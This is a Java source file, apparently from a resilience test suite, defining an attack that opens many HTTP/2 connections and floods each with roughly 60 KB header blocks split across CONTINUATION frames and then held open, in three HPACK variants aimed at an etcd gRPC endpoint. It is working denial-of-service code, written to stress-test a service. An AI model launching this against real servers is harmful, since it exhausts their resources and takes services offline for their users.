package io.troupe.tests.hostile;

import io.troupe.tests.malformed.Http2Bytes;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.SocketException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;

/**
 * Streams that send a header block of about 60,000 bytes and then nothing.
 *
 * @source RFC 7541 sections 6.1, 6.2
 */
final class HeldHeaders implements Attack {
  /** The form of the header block. */
  enum Fields {
    /** Few literal fields with long values. */
    LONG,
    /** Thousands of literal fields of a few bytes. */
    SHORT,
    /** References of one byte to a field of the static table. */
    REFERENCES
  }

  private static final int CONTINUATION = 9;
  private static final int FRAME_BYTES = 16_384;
  private static final int BLOCK_BYTES = 60_000;

  /** HTTP messages of most servers may have 64 fields. */
  private static final int LONG_FIELDS = 57;

  /** {@code accept-encoding: gzip, deflate}. */
  private static final byte REFERENCE = (byte) (0x80 | 16);

  private final int connections;
  private final int streams;
  private final byte[] block;

  /**
   * An attack.
   *
   * @param streams on each connection
   */
  HeldHeaders(int connections, int streams, Fields fields) {
    this.connections = connections;
    this.streams = streams;
    this.block = block(fields);
  }

  @Override
  public Held on(Target target) throws IOException {
    List<RawConnection> held = new ArrayList<>();
    for (int i = 0; i < connections; i++) {
      try {
        RawConnection connection = RawConnection.narrow(target);
        held.add(connection);
        for (int sent = 0; sent < streams; sent++) {
          connection.write(frames(connection.nextStream()));
        }
      } catch (SocketException closed) {
        // The member accepts no more.
      }
    }
    return () -> held.forEach(RawConnection::close);
  }

  private static byte[] block(Fields fields) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(Http2Bytes.call("/etcdserverpb.KV/Put"));
    switch (fields) {
      case LONG -> {
        for (int i = 0; i < LONG_FIELDS; i++) {
          out.writeBytes(Http2Bytes.headers("x-" + i, "v".repeat(BLOCK_BYTES / LONG_FIELDS)));
        }
      }
      case SHORT -> {
        byte[] field = Http2Bytes.headers("a", "b");
        for (int i = 0; i < BLOCK_BYTES / field.length; i++) {
          out.writeBytes(field);
        }
      }
      case REFERENCES -> {
        byte[] references = new byte[BLOCK_BYTES];
        Arrays.fill(references, REFERENCE);
        out.writeBytes(references);
      }
    }
    return out.toByteArray();
  }

  private byte[] frames(int stream) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (int from = 0; from < block.length; from += FRAME_BYTES) {
      int to = Math.min(block.length, from + FRAME_BYTES);
      out.writeBytes(
          Http2Bytes.frame(
              from == 0 ? Http2Bytes.HEADERS : CONTINUATION,
              to == block.length ? Http2Bytes.END_HEADERS : 0,
              stream,
              Arrays.copyOfRange(block, from, to)));
    }
    return out.toByteArray();
  }
}
